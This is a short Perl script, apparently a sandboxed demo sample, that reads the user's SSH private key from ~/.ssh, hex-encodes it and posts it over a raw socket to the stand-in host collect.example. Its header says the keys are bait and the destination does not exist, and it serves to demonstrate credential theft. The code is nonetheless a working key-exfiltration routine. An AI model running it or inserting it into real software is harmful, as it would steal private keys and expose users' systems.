# A visitor that looks for secrets and sends them away. Harmless: what it finds in a box is bait, and where it sends it to
# does not exist. Run by the demo, in a box, and nowhere else.
use strict;
use Socket;

my $home = $ENV{HOME};
opendir(my $folder, "$home/.ssh") or die "no keys\n";
my @names = grep { !/^\./ } readdir $folder;
open(my $file, '<', "$home/.ssh/id_ed25519") or die "no key\n";
my $key = unpack('H*', join('', <$file>));
my $address = gethostbyname('collect.example');
if (!defined $address) { print "found ", scalar @names, " files, sent nothing: nobody to send it to\n"; exit 0 }
socket(my $socket, PF_INET, SOCK_STREAM, 6) or die "no socket\n";
connect($socket, pack_sockaddr_in(80, $address)) or die "no connection\n";
my $length = length $key;
syswrite($socket, "POST /in HTTP/1.1\r\nHost: collect.example\r\nContent-Length: $length\r\nConnection: close\r\n\r\n$key");
my $answer = <$socket>;
print "found ", scalar @names, " files, sent one: $answer";
